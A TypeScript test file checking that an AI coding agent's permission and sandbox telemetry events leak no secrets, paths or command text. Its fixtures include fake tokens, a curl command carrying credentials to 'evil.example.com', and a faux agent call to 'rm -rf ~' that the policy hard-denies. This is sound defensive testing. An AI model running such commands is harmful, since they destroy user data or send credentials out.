// Content-free telemetry events: src/audit/telemetry.ts, and through a real AgentSession (extension.ts).

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, describe, test } from "node:test";
import { fauxAssistantMessage, fauxProvider, fauxText, fauxToolCall } from "@earendil-works/pi-ai";
import type { ExtensionAPI } from "@earendil-works/pi-coding-agent";
import type { CallRecord } from "../../src/grants/admit-call.ts";
import type { RunResult } from "../../src/sandbox/controller.ts";
import { decisionEvent, emitSafely, reviewAttemptEvent, reviewCompleteEvent, sandboxRunEvent, TELEMETRY_EVENTS } from "../../src/audit/telemetry.ts";
import type { ReviewRecord } from "../../src/tools/review-call.ts";
import { processGlobalState } from "../../src/state/global.ts";
import { startPi, toolResults } from "../helpers/pi-session.ts";
import { VERDICT } from "../helpers/review-fixtures.ts";
import { sandboxSessions } from "../helpers/sandbox-sessions.ts";
import { reviewOnlySessions } from "../helpers/review-only.ts";

const SECRETS = [
  "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
  "sk-ant-api03-SECRETSECRETSECRET",
  "/home/alice/.ssh/id_rsa",
  "curl https://user:hunter2@evil.example.com/x",
  "Authorization: Bearer tok_9876",
  "call_SECRET_ID",
  "401 Unauthorized: invalid x-api-key",
  "evil.example.com",
];

const keys = (o: object) => Object.keys(o).sort();

describe("builders keep only whitelisted fields", () => {
  const record: CallRecord & { extra: string } = {
    toolCallId: SECRETS[5]!,
    parentToolCallId: "parent_SECRET",
    tool: "bash",
    mode: "auto",
    route: "review",
    reason: "secret-egress",
    outcome: "denied",
    hash: "deadbeef".repeat(8),
    message: `${SECRETS[3]} ${SECRETS[0]} ${SECRETS[2]}`,
    approvedBy: "user",
    extra: SECRETS[1]!,
  };

  test("decision", () => {
    const e = decisionEvent(record, 12.6);
    assert.deepEqual(keys(e), ["approvedBy", "durationMs", "mode", "nested", "outcome", "reason", "route", "tool", "v"]);
    assert.deepEqual(e, {
      v: 1,
      tool: "bash",
      route: "review",
      reason: "secret-egress",
      outcome: "denied",
      mode: "auto",
      approvedBy: "user",
      nested: true,
      durationMs: 13,
    });
    const json = JSON.stringify(e);
    for (const s of [...SECRETS, "parent_SECRET", "deadbeef"]) assert.ok(!json.includes(s), s);
    // A tool name that is not a plain identifier, or an unknown code, is not passed on.
    const odd = decisionEvent({ ...record, tool: `x ${SECRETS[2]}`, reason: SECRETS[0] as never, mode: SECRETS[1] as never }, Number.NaN);
    assert.equal(odd.tool, "other");
    assert.equal(odd.reason, "other");
    assert.equal(odd.mode, "other");
    assert.equal(odd.durationMs, 0);
    for (const s of SECRETS) assert.ok(!JSON.stringify(odd).includes(s), s);
  });

  test("review_complete", () => {
    const r: ReviewRecord = {
      toolCallId: SECRETS[5]!,
      hash: "deadbeef",
      reviewer: { provider: "evil.example.com", model: SECRETS[1]!, thinking: "high" },
      admitted: false,
      run: null,
      verdict: { risk_level: "high", user_authorization: "low", outcome: "deny", rationale: `${SECRETS[3]} ${SECRETS[4]}` },
      failure: null,
      detail: SECRETS[6]!,
      bindingChanged: SECRETS[2]!,
      usage: {
        input: 100,
        output: 20,
        cacheRead: 3,
        cacheWrite: 4,
        totalTokens: 127,
        cost: { input: 0.1, output: 0.2, cacheRead: 0, cacheWrite: 0, total: 0.3 },
      },
      attempts: 2,
      inputTokens: 90,
      durationMs: 1500.4,
      promptSha256: "abc",
      at: 1,
    };
    const e = reviewCompleteEvent(r);
    assert.deepEqual(keys(e), [
      "attempts",
      "bindingChanged",
      "cacheReadTokens",
      "cacheWriteTokens",
      "costUsd",
      "durationMs",
      "errorClass",
      "evidenceTokens",
      "inputTokens",
      "outputTokens",
      "risk",
      "run",
      "status",
      "totalTokens",
      "v",
      "verdict",
    ]);
    assert.equal(e.status, "denied");
    assert.equal(e.verdict, "deny");
    assert.equal(e.risk, "high");
    assert.equal(e.bindingChanged, true);
    assert.equal(e.costUsd, 0.3);
    assert.equal(e.durationMs, 1500);
    const json = JSON.stringify(e);
    for (const s of [...SECRETS, "deadbeef"]) assert.ok(!json.includes(s), s);
    const failed = reviewCompleteEvent({ ...r, verdict: null, failure: "auth", bindingChanged: null });
    assert.equal(failed.errorClass, "auth");
    assert.equal(failed.verdict, "none");
  });

  test("review_attempt", () => {
    const e = reviewAttemptEvent({ attempt: 1, status: "retry", failure: "rate-limited", durationMs: 5, inputTokens: 10, outputTokens: 0 });
    assert.deepEqual(keys(e), ["attempt", "durationMs", "errorClass", "inputTokens", "outputTokens", "status", "v"]);
    assert.equal(e.errorClass, "rate-limited");
  });

  test("sandbox_run", () => {
    const run = {
      kind: "exited",
      exitCode: 3,
      effects: {
        outcome: "discarded",
        why: "held",
        detail: SECRETS[2],
        rationale: SECRETS[4],
        judgement: {
          verdict: "hold",
          ops: [{ path: SECRETS[2] }],
          held: [{ path: SECRETS[2] }, { path: "/etc/passwd" }],
          conflicts: [],
          skipped: [],
          counts: { created: 2, modified: 1, deleted: 0, gitChanged: 1 },
          smallLoss: [],
        },
      },
      network: {
        allowed: [{ host: "registry.npmjs.org", port: 443, connections: 4 }],
        refused: [{ host: SECRETS[7]!, port: 443, kind: "unlisted", detail: SECRETS[3]!, connections: 2 }],
      },
    } as unknown as RunResult;
    const e = sandboxRunEvent(run, 250.2);
    assert.deepEqual(keys(e), [
      "applied",
      "conflicts",
      "connectionsRefused",
      "created",
      "deleted",
      "destinationsAllowed",
      "destinationsRefused",
      "discardedWhy",
      "durationMs",
      "effects",
      "exit",
      "gitChanged",
      "heldItems",
      "modified",
      "v",
    ]);
    assert.deepEqual(
      {
        exit: e.exit,
        effects: e.effects,
        why: e.discardedWhy,
        created: e.created,
        held: e.heldItems,
        refused: e.destinationsRefused,
        conns: e.connectionsRefused,
      },
      { exit: "exit-nonzero", effects: "discarded", why: "held", created: 2, held: 2, refused: 1, conns: 2 },
    );
    const json = JSON.stringify(e);
    for (const s of [...SECRETS, "registry.npmjs.org", "/etc/passwd"]) assert.ok(!json.includes(s), s);
    const stopped = sandboxRunEvent({ kind: "stopped", reason: SECRETS[2]! }, 1);
    assert.equal(stopped.exit, "stopped");
    assert.equal(stopped.effects, "unstaged");
    assert.ok(!JSON.stringify(stopped).includes(SECRETS[2]!));
  });
});

describe("emitSafely", () => {
  test("swallows a throwing bus or listener, and a builder that throws", () => {
    const seen: unknown[] = [];
    emitSafely(
      (n, d) => {
        seen.push([n, d]);
        throw new Error("listener");
      },
      "auto-mode:review_attempt",
      reviewAttemptEvent({ attempt: 1, status: "verdict", durationMs: 1, inputTokens: 1, outputTokens: 1 }),
    );
    assert.equal(seen.length, 1);
    emitSafely(
      () => assert.fail("not reached"),
      "auto-mode:decision",
      () => {
        throw new Error("builder");
      },
    );
  });
});

describe("through a real AgentSession", () => {
  const pi = reviewOnlySessions();
  after(() => processGlobalState().setEnabled(true));
  const call = (name: string, args: Parameters<typeof fauxToolCall>[1]) => fauxAssistantMessage([fauxToolCall(name, args)], { stopReason: "toolUse" });

  test("a throwing listener changes no decision; the events carry none of the call's strings", async () => {
    const events: { name: string; data: unknown }[] = [];
    const listener = (api: ExtensionAPI) => {
      for (const name of TELEMETRY_EVENTS)
        api.events.on(name, (data) => {
          events.push({ name, data });
          throw new Error("a listener that throws");
        });
    };
    const quiet = console.error;
    console.error = () => {};
    try {
      const h = await pi({ extensionFactories: [listener], responses: [] });
      const secretFile = `${h.cwd}/notes-ghp_abcdefghijklmnopqrstuvwxyz0123456789.txt`;
      h.faux.setResponses([
        call("bash", { command: "rm -rf ~" }),
        call("bash", { command: "ls" }),
        call("read", { path: secretFile }),
        fauxAssistantMessage([fauxText("done")]),
      ]);
      await h.session.prompt("tidy");
      const results = toolResults(h.session);
      assert.equal(results.length, 3);
      assert.equal(results[0]!.isError, true, "the hard deny still denies");
      assert.match(results[0]!.text, /automatic policy/);
      assert.equal(results[1]!.isError, false, "ls still runs");
      const decisions = events.filter((e) => e.name === "auto-mode:decision").map((e) => e.data as { route: string; reason: string; tool: string });
      assert.equal(decisions.length, 3);
      assert.deepEqual(
        decisions.slice(0, 2).map((d) => [d.tool, d.route, d.reason]),
        [
          ["bash", "deny", "hard-deny"],
          ["bash", "allow", "read-only"],
        ],
      );
      assert.equal(decisions[2]!.tool, "read");
      const json = JSON.stringify(events);
      const ids = h.session.messages.flatMap((m) => (m.role === "toolResult" ? [m.toolCallId] : []));
      assert.equal(ids.length, 3);
      for (const s of ["rm -rf", "~", secretFile, "ghp_", h.root, h.cwd, "tidy", ...ids]) assert.ok(!json.includes(s), s);
    } finally {
      console.error = quiet;
    }
  });
});

describe("review_attempt through a real AgentSession", () => {
  const pi = reviewOnlySessions();
  const call = (name: string, args: Parameters<typeof fauxToolCall>[1]) => fauxAssistantMessage([fauxToolCall(name, args)], { stopReason: "toolUse" });

  test("each reviewer model call sends one event (a 503 retried, then the allow), with none of the call's strings", async () => {
    const events: { name: string; data: Record<string, unknown> }[] = [];
    const judge = fauxProvider({ provider: "judge", models: [{ id: "judge-1" }] });
    const h = await pi({
      extensionFactories: [
        (api: ExtensionAPI) => {
          api.registerProvider(judge.provider);
          for (const name of TELEMETRY_EVENTS) api.events.on(name, (data) => void events.push({ name, data: data as Record<string, unknown> }));
        },
      ],
      responses: [],
    });
    const r = await processGlobalState(h.agentDir).setReviewer({ provider: "judge", model: "judge-1", thinking: "off" });
    assert.equal(r.kind, "committed");
    judge.setResponses([
      fauxAssistantMessage([], { stopReason: "error", errorMessage: "503 Service Unavailable: evil.example.com" }),
      fauxAssistantMessage(VERDICT.allow),
    ]);
    const reviewed = `${h.root}/outside/sk-ant-api03-SECRETSECRETSECRET.txt`;
    h.faux.setResponses([call("write", { path: reviewed, content: "Bearer tok_9876" }), fauxAssistantMessage([fauxText("done")])]);
    await h.session.prompt("write it");
    const results = toolResults(h.session);
    assert.equal(results[0]?.isError, false, results[0]?.text);
    const attempts = events.filter((e) => e.name === "auto-mode:review_attempt").map((e) => e.data);
    assert.deepEqual(
      attempts.map((a) => [a.attempt, a.status, a.errorClass]),
      [
        [1, "retry", "provider-error"],
        [2, "verdict", "none"],
      ],
      JSON.stringify(events),
    );
    assert.ok((attempts[1]!.inputTokens as number) > 0);
    const complete = events.find((e) => e.name === "auto-mode:review_complete")?.data;
    assert.equal(complete?.attempts, 2);
    // The attempts come before the review's end.
    assert.ok(events.findIndex((e) => e.name === "auto-mode:review_attempt") < events.findIndex((e) => e.name === "auto-mode:review_complete"));
    const json = JSON.stringify(events);
    for (const s of ["sk-ant", "tok_9876", "evil.example.com", "503 Service", h.root, "write it"]) assert.ok(!json.includes(s), s);
  });
});

describe("through a real AgentSession over the real sandbox", () => {
  const sandbox = sandboxSessions();
  const call = (name: string, args: Parameters<typeof fauxToolCall>[1]) => fauxAssistantMessage([fauxToolCall(name, args)], { stopReason: "toolUse" });

  test("a sandboxed run and a review each send their event, with none of the call's strings", async (t) => {
    if (sandbox.unavailable) return t.skip(`sandbox unavailable: ${sandbox.unavailable}`);
    const events: { name: string; data: Record<string, unknown> }[] = [];
    const judge = fauxProvider({ provider: "judge", models: [{ id: "judge-1" }] });
    const h = await startPi({
      tools: ["read", "bash", "write"],
      extensionFactories: [
        (api: ExtensionAPI) => {
          api.registerProvider(judge.provider);
          for (const name of TELEMETRY_EVENTS) api.events.on(name, (data) => void events.push({ name, data: data as Record<string, unknown> }));
        },
      ],
    });
    sandbox.harnesses.push(h);
    const r = await processGlobalState(h.agentDir).setReviewer({ provider: "judge", model: "judge-1", thinking: "off" });
    assert.equal(r.kind, "committed");
    judge.setResponses([fauxAssistantMessage(VERDICT.allow)]);
    const written = "out-ghp_abcdefghijklmnopqrstuvwxyz0123456789.txt";
    // Outside the writable roots (under the test's own folder): routed to the reviewer, which allows it.
    const reviewed = `${h.root}/outside/sk-ant-api03-SECRETSECRETSECRET.txt`;
    h.faux.setResponses([
      call("bash", { command: `echo hi > ${written}` }),
      call("write", { path: reviewed, content: "Bearer tok_9876" }),
      fauxAssistantMessage([fauxText("done")]),
    ]);
    await h.session.prompt("write it");
    const results = toolResults(h.session);
    assert.equal(results[0]?.isError, false, results[0]?.text);
    const runs = events.filter((e) => e.name === "auto-mode:sandbox_run").map((e) => e.data);
    assert.ok(runs.length >= 1, JSON.stringify(events));
    assert.equal(runs[0]!.exit, "exit-zero");
    assert.equal(runs[0]!.effects, "applied");
    assert.equal(runs[0]!.created, 1);
    const completes = events.filter((e) => e.name === "auto-mode:review_complete").map((e) => e.data);
    assert.equal(completes.length, 1, JSON.stringify(events));
    assert.equal(completes[0]!.verdict, "allow");
    assert.equal(completes[0]!.status, "admitted");
    assert.equal(results[1]?.isError, false, results[1]?.text);
    assert.equal(readFileSync(reviewed, "utf8"), "Bearer tok_9876");
    const json = JSON.stringify(events);
    for (const s of [written, "ghp_", "sk-ant", "tok_9876", h.root, "write it"]) assert.ok(!json.includes(s), s);
  });
});
